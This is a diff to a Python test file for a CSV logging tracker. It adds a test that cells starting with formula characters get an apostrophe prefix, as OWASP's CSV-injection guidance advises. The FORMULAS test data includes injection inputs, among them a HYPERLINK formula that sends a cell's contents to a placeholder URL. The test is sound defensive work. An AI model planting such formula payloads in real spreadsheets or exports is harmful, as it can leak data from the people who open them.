@@ -35,12 +35,35 @@ def test_the_rows_are_those_of_stable_baselines3(tmp_path):
 
 
 def test_texts_come_back_as_they_were(tmp_path):
-    texts = ['a,"b"\n\nc', "\x1b[31m\u202e", "=1+1", "</script>", "", "a\rb", "\r\n"]
+    texts = ['a,"b"\n\nc', "\x1b[31m\u202e", "1=1", "</script>", "", "a\rb", "'", " \r\n"]
     tracker = CSV(Run(tmp_path, {}))
     tracker.table("eval/examples", [{"completion": text, "answer": None} for text in texts], 7)
     rows = rows_of(tmp_path / "eval_examples.csv")
     assert [row["completion"] for row in rows] == texts
     assert {row["step"] for row in rows} == {"7"} and {row["answer"] for row in rows} == {""}
+
+
+FORMULAS = [
+    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=", "--5", "-x", "-5 apples",
+    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", '=HYPERLINK("http://a.example/?"&A1,"b")',
+    "-\u0661", "-5\n=1",
+]  # fmt: skip
+
+
+def test_texts_are_no_formulas(tmp_path):
+    """The characters are those of OWASP's page on CSV injection, and so is the apostrophe."""
+    plain = ["-5", "+3.25", "-.5", "-1e-07", "5", "'=1", "a=1", " =1", ""]
+    tracker = CSV(Run(tmp_path, {}))
+    for text in FORMULAS + plain:
+        tracker.table("completions", [{"text": text, "reward": -0.5}], 1)
+    # A further column has the file written again, and a run that goes on reads it.
+    tracker.table("completions", [{"text": "=2", "reward": -math.inf, "=more": 1.0}], 2)
+    CSV(Run(tmp_path, {}, resumed=True)).table("completions", [{"text": "@3", "=more": -1.0}], 3)
+    rows = rows_of(tmp_path / "completions.csv")
+    expected = [f"'{text}" for text in FORMULAS] + plain + ["'=2", "'@3"]
+    assert [row["text"] for row in rows] == expected
+    assert [row["reward"] for row in rows] == ["-0.5"] * (len(expected) - 2) + ["-inf", ""]
+    assert [row["'=more"] for row in rows] == [""] * (len(expected) - 2) + ["1.0", "-1.0"]
 
 
 def test_a_run_that_goes_on_replaces_the_steps_that_it_makes_again(tmp_path):
@@ -62,10 +85,10 @@ def test_a_run_that_goes_on_replaces_the_steps_that_it_makes_again(tmp_path):
 
 
 def test_a_carriage_return_loses_no_row_when_a_run_goes_on(tmp_path):
-    CSV(Run(tmp_path, {})).table("completions", [{"text": "a\rb"}, {"text": "\r"}], 1)
+    CSV(Run(tmp_path, {})).table("completions", [{"text": "a\rb"}, {"text": "b\r"}], 1)
     CSV(Run(tmp_path, {}, resumed=True)).table("completions", [{"text": "c"}], 2)
     rows = rows_of(tmp_path / "completions.csv")
-    assert [row["text"] for row in rows] == ["a\rb", "\r", "c"]
+    assert [row["text"] for row in rows] == ["a\rb", "b\r", "c"]
 
 
 def test_a_file_that_ends_within_a_character_goes_on(tmp_path):
